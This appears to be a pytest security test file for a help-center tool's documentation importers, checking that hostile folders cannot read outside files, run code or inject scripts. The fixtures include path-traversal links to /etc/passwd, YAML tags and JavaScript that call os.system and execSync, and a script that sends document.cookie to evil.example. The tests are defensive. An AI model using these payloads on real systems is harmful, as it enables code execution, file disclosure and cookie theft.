"""Hostile docs-tool folders against `kb import mkdocs|docusaurus|gitbook|obsidian` (issue 16).

Each test writes a folder into tmp_path with a secret beside it (outside the folder), imports it
into a real `kb init` project and checks that nothing outside the folder was read or copied, that
no live script was written, and that nothing landed outside kb/.
"""

from __future__ import annotations

import datetime as dt
import os
from pathlib import Path

import pytest

from supportkb.generator.authoring.scaffold import init_project
from supportkb.generator.core.errors import KBError
from supportkb.generator.core.project import find_project
from supportkb.generator.importers import read_export
from supportkb.generator.importers.write import import_export

SECRET = "DB_PASSWORD=hunter2-do-not-publish"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


def project(tmp_path: Path) -> Path:
    root = tmp_path / "help"
    init_project(root, site_name="x", owner="sam", today=dt.date(2026, 3, 1))
    return root


def everything_written(root: Path) -> str:
    return "\n".join(p.read_bytes().decode("utf-8", "replace") for p in root.rglob("*") if p.is_file() and ".git" not in p.parts)


def outside(tmp_path: Path) -> Path:
    """A secret folder next to the docs folder: a page, an image and a config that must never be read."""
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "passwords.md").write_text(f"# Passwords\n\n{SECRET}\n", encoding="utf-8")
    (secret / "leak.png").write_bytes(PNG + SECRET.encode())
    return secret


def obsidian_vault(tmp_path: Path, body: str) -> Path:
    vault = tmp_path / "vault"
    vault.mkdir()
    (vault / "Note.md").write_text(body, encoding="utf-8")
    return vault


def test_symlinked_folder_and_page_are_never_read(tmp_path: Path) -> None:
    secret = outside(tmp_path)
    vault = obsidian_vault(tmp_path, "See [[passwords]] and ![[leak.png]] and [p](linked/passwords.md).\n")
    os.symlink(secret, vault / "linked", target_is_directory=True)
    os.symlink(secret / "passwords.md", vault / "Passwords.md")
    export = read_export("obsidian", vault)
    assert [a.title for a in export.articles] == ["Note"]
    assert any("skipped linked: a symbolic link" in note for note in export.notes)
    assert any("skipped Passwords.md: a symbolic link" in note for note in export.notes)
    root = project(tmp_path)
    import_export(find_project(start=root), export)
    assert SECRET not in everything_written(root)


@pytest.mark.parametrize("target", ["../secret/passwords.md", "../../secret/leak.png", "/etc/passwd", "%2e%2e/secret/passwords.md", "kb-file:../secret/leak.png", "kb-article:anything"])
def test_links_out_of_the_folder_lead_nowhere(tmp_path: Path, target: str) -> None:
    outside(tmp_path)
    vault = obsidian_vault(tmp_path, f"A [link]({target}) and an ![image]({target}).\n")
    root = project(tmp_path)
    report = import_export(find_project(start=root), read_export("obsidian", vault))
    text = everything_written(root)
    assert SECRET not in text
    note = (root / "kb/articles/general/note.md").read_text(encoding="utf-8")
    assert "A link and an image." in note
    assert not (root / "kb/articles/images").exists()
    assert report.articles[0].problems


def test_mkdocs_docs_dir_and_gitbook_root_cannot_leave_the_folder(tmp_path: Path) -> None:
    outside(tmp_path)
    site = tmp_path / "site"
    site.mkdir()
    (site / "mkdocs.yml").write_text("site_name: x\ndocs_dir: ../secret\n", encoding="utf-8")
    with pytest.raises(KBError, match="not a folder inside the project"):
        read_export("mkdocs", site)
    os.symlink(tmp_path / "secret", site / "docs", target_is_directory=True)
    (site / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    with pytest.raises(KBError, match="not a folder inside the project"):
        read_export("mkdocs", site)
    book = tmp_path / "book"
    book.mkdir()
    (book / ".gitbook.yaml").write_text("root: ../secret\nstructure:\n  summary: ../secret/passwords.md\n", encoding="utf-8")
    (book / "README.md").write_text("# Home\n\nWelcome to the book.\n", encoding="utf-8")
    export = read_export("gitbook", book)
    assert [a.title for a in export.articles] == ["Home"]
    assert ".gitbook.yaml: root '../secret' is not a folder inside; the folder itself is the root" in export.notes


def test_mkdocs_yml_python_tags_are_never_run(tmp_path: Path) -> None:
    site = tmp_path / "site"
    (site / "docs").mkdir(parents=True)
    marker = tmp_path / "ran"
    (site / "docs/index.md").write_text("# Home\n\nThe home page of the site.\n", encoding="utf-8")
    (site / "mkdocs.yml").write_text(
        f"site_name: x\nhooks: !!python/object/apply:os.system ['touch {marker}']\nx: !!python/name:os.system\ny: !ENV [HOME]\n",
        encoding="utf-8",
    )
    export = read_export("mkdocs", site)
    assert [a.title for a in export.articles] == ["Home"]
    assert not marker.exists()


def test_docusaurus_sidebars_js_is_read_never_run(tmp_path: Path) -> None:
    site = tmp_path / "site"
    (site / "docs").mkdir(parents=True)
    marker = tmp_path / "ran"
    (site / "docs/intro.md").write_text("# Intro\n\nThe first page of the docs.\n", encoding="utf-8")
    (site / "sidebars.js").write_text(f"require('child_process').execSync('touch {marker}');\nmodule.exports = {{s: ['intro']}};\n", encoding="utf-8")
    export = read_export("docusaurus", site)
    assert [a.title for a in export.articles] == ["Intro"]
    assert not marker.exists()


def test_raw_html_scripts_and_handlers_are_removed(tmp_path: Path) -> None:
    body = (
        "Intro text of the note.\n\n<script>fetch('https://evil.example/?c='+document.cookie)</script>\n\n"
        '<img src="x.png" onerror="alert(1)">\n\n<a href="javascript:alert(1)">click</a>\n\n'
        "[js](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>)\n\n"
        '<iframe src="https://www.youtube.com/embed/abc"></iframe>\n\n```html\n<script>shown as code</script>\n```\n'
    )
    vault = obsidian_vault(tmp_path, body)
    root = project(tmp_path)
    import_export(find_project(start=root), read_export("obsidian", vault))
    note = (root / "kb/articles/general/note.md").read_text(encoding="utf-8")
    assert "document.cookie" not in note and "onerror" not in note and "javascript:" not in note and "data:text" not in note
    assert "[https://www.youtube.com/embed/abc](https://www.youtube.com/embed/abc)" in note
    assert "```html\n<script>shown as code</script>\n```" in note


def test_huge_page_is_skipped_not_read_whole(tmp_path: Path) -> None:
    vault = obsidian_vault(tmp_path, "A small note with a few words.\n")
    (vault / "Huge.md").write_bytes(b"a" * (5 * 1024 * 1024 + 10))
    export = read_export("obsidian", vault)
    assert [a.title for a in export.articles] == ["Note"]
    assert "Huge.md: larger than 5 MB, not a help article; skipped" in export.notes


def test_hostile_titles_and_names_stay_inside_kb(tmp_path: Path) -> None:
    vault = tmp_path / "vault"
    (vault / "we..ird" / "..sub").mkdir(parents=True)
    (vault / "we..ird" / "..sub" / "hidden.md").write_text("Hidden folders (.obsidian, .trash) are not notes.\n", encoding="utf-8")
    (vault / "we..ird" / "x..md").write_text("---\ntitle: \"../../../etc/passwd\"\n---\n\nBody text of the note.\n", encoding="utf-8")
    (vault / "CON.md").write_text("---\ntitle: \"<script>alert(1)</script>\"\n---\n\nBody text of another note.\n", encoding="utf-8")
    root = project(tmp_path)
    report = import_export(find_project(start=root), read_export("obsidian", vault))
    paths = [Path(a.path).resolve() for a in report.articles]  # as shown: relative to the working folder
    assert len(paths) == 2
    assert all(path.is_relative_to((root / "kb/articles").resolve()) and path.is_file() for path in paths)
    texts = [path.read_text(encoding="utf-8") for path in paths]
    assert any("# &lt;script&gt;alert(1)&lt;/script&gt;" in t or "# \\<script" in t or "&lt;script" in t for t in texts)
